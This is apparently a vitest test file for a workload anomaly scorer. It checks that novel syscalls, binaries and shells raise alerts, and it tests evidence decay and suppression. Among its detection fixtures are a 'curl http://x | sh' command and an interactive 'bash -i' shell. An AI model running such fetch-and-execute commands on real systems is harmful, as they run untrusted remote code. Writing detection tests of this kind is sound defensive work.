import { describe, expect, it } from 'vitest';
import { WorkloadProfile } from '../profiles/profile-model.js';
import type { Observation } from '../profiles/observation.js';
import { Calibrator } from './calibrator.js';
import { DecayingAccumulator } from './decaying-accumulator.js';
import { DEFAULT_SCORING_CONFIG as CONFIG, resolveScoringConfig } from './scoring-config.js';
import { WorkloadScorer } from './workload-scorer.js';

const ALERT = 0.9;
const MINUTE = 60_000;

/** A workload whose 200 learning windows were perfectly quiet. */
function stableThresholds() {
  const calibrator = new Calibrator(CONFIG);
  for (let i = 0; i < 200; i++) calibrator.addWindow({});
  return calibrator.thresholds();
}

function learnedProfile(): WorkloadProfile {
  const profile = new WorkloadProfile({ ngramLength: 3 });
  for (let epoch = 1; epoch <= 20; epoch++) {
    const ctx = { epoch, time: epoch * MINUTE, afterReady: false };
    profile.observe({ category: 'exec', path: '/usr/bin/python3', argv: ['python3', 'app.py'] }, ctx);
    profile.observe({ category: 'exec', path: '/bin/sh', argv: ['sh', '-c', 'date'] }, ctx);
    for (const nr of [0, 1, 2, 3]) profile.observe({ category: 'syscall', nr }, ctx);
    profile.observe({ category: 'syscall_sequence', calls: [0, 1, 2] }, ctx);
    profile.observe({ category: 'syscall_sequence', calls: [1, 2, 3] }, ctx);
  }
  return profile;
}

function score(profile: WorkloadProfile, scorer: WorkloadScorer, obs: Observation, time = 0): void {
  scorer.observe(obs, profile.match(obs), time);
}

describe('WorkloadScorer: robustness requirements', () => {
  it('a single novel syscall stays below 0.9 even on a perfectly stable workload; more of them cross', () => {
    const profile = learnedProfile();
    const scorer = new WorkloadScorer(CONFIG, stableThresholds());
    score(profile, scorer, { category: 'syscall', nr: 101 });
    // Its n-grams are new too, and must not push it over through the sequence category.
    score(profile, scorer, { category: 'syscall_sequence', calls: [0, 1, 101] });
    score(profile, scorer, { category: 'syscall_sequence', calls: [1, 101, 2] });
    score(profile, scorer, { category: 'syscall_sequence', calls: [101, 2, 3] });
    const one = scorer.snapshot(0);
    expect(one.overall).toBeGreaterThan(0.5);
    expect(one.overall).toBeLessThan(ALERT);
    score(profile, scorer, { category: 'syscall', nr: 102 });
    score(profile, scorer, { category: 'syscall', nr: 103 });
    expect(scorer.snapshot(0).overall).toBeGreaterThanOrEqual(ALERT);
  });

  it('a novel binary crosses 0.9 at once, even when learning was noisy in every category', () => {
    const calibrator = new Calibrator(CONFIG);
    for (let i = 0; i < 200; i++) calibrator.addWindow({ exec: 5, syscall: 3, syscall_sequence: 4, file: 2 });
    const scorer = new WorkloadScorer(CONFIG, calibrator.thresholds());
    const profile = learnedProfile();
    score(profile, scorer, { category: 'exec', path: '/usr/local/bin/report-gen', argv: ['report-gen'] });
    expect(scorer.snapshot(0).categories.exec).toBeGreaterThanOrEqual(ALERT);
    expect(scorer.snapshot(0).overall).toBeGreaterThanOrEqual(ALERT);
  });

  it('a novel shell scores higher than any other novel binary, and a known one with a new command still alerts', () => {
    const profile = learnedProfile();
    const shell = new WorkloadScorer(CONFIG, stableThresholds());
    score(profile, shell, { category: 'exec', path: '/bin/bash', argv: ['bash', '-i'] });
    expect(shell.snapshot(0).overall).toBeGreaterThan(0.99);
    const knownShell = new WorkloadScorer(CONFIG, stableThresholds());
    score(profile, knownShell, { category: 'exec', path: '/bin/sh', argv: ['sh', '-c', 'curl http://x | sh', 'extra'] });
    expect(knownShell.snapshot(0).overall).toBeGreaterThanOrEqual(ALERT);
    const knownBinary = new WorkloadScorer(CONFIG, stableThresholds());
    score(profile, knownBinary, { category: 'exec', path: '/usr/bin/python3', argv: ['python3', 'other.py', '--flag'] });
    expect(knownBinary.snapshot(0).overall).toBeGreaterThan(0);
  });

  it('known behaviour scores 0', () => {
    const profile = learnedProfile();
    const scorer = new WorkloadScorer(CONFIG, stableThresholds());
    score(profile, scorer, { category: 'exec', path: '/usr/bin/python3', argv: ['python3', 'app.py'] });
    score(profile, scorer, { category: 'syscall_sequence', calls: [0, 1, 2] });
    expect(scorer.snapshot(0)).toMatchObject({ overall: 0, level: 0, suppressed: false });
  });
});

describe('WorkloadScorer: decay and suppression', () => {
  it('halves evidence every half-life', () => {
    const scorer = new WorkloadScorer(CONFIG, stableThresholds());
    scorer.addEvidence('network', 1, 0);
    const halfLife = CONFIG.halfLifeSeconds * 1000;
    expect(scorer.rawAt(halfLife).network).toBeCloseTo(0.5, 10);
    expect(scorer.rawAt(3 * halfLife).network).toBeCloseTo(0.125, 10);
    const fast = new WorkloadScorer(resolveScoringConfig({ halfLifeSeconds: 1 }), stableThresholds());
    fast.addEvidence('network', 1, 0);
    expect(fast.rawAt(2000).network).toBeCloseTo(0.25, 10);
  });

  it('freezes scores while the kernel loses events and ignores evidence meanwhile', () => {
    const profile = learnedProfile();
    const scorer = new WorkloadScorer(CONFIG, stableThresholds());
    score(profile, scorer, { category: 'syscall', nr: 200 }, 0);
    const before = scorer.snapshot(0).overall;
    scorer.setSuppressed(true, 0);
    score(profile, scorer, { category: 'exec', path: '/bin/bash', argv: ['bash'] }, 1000);
    const during = scorer.snapshot(10 * MINUTE);
    expect(during).toMatchObject({ suppressed: true, overall: before });
    expect(scorer.isSuppressed).toBe(true);
    scorer.setSuppressed(false, 20 * MINUTE);
    expect(scorer.snapshot(20 * MINUTE)).toMatchObject({ suppressed: false, overall: 0 });
  });

  it('DecayingAccumulator rejects a non-positive half-life', () => {
    expect(() => new DecayingAccumulator(0)).toThrow(/half-life/);
  });
});
